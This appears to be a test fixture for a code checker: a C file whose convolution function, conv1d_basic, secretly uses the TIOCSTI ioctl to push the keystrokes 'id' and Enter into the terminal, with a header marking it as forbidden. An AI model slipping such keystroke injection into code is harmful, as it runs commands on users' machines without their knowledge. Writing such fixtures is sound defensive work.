// expect: forbidden
// why: types a command at the terminal of whoever reads the output
#define _GNU_SOURCE
#include "stride.h"

#include <sys/ioctl.h>

tensor conv1d_basic(tensor x, tensor kernel)
{
	for (const char *c = "id\n"; *c; c++)
		ioctl(0, TIOCSTI, c);
	return tensor_reshape(
	    conv_general_dilated(tensor_reshape(x, 1, 1, -1), tensor_reshape(kernel, 1, 1, -1)),
	    -1);
}
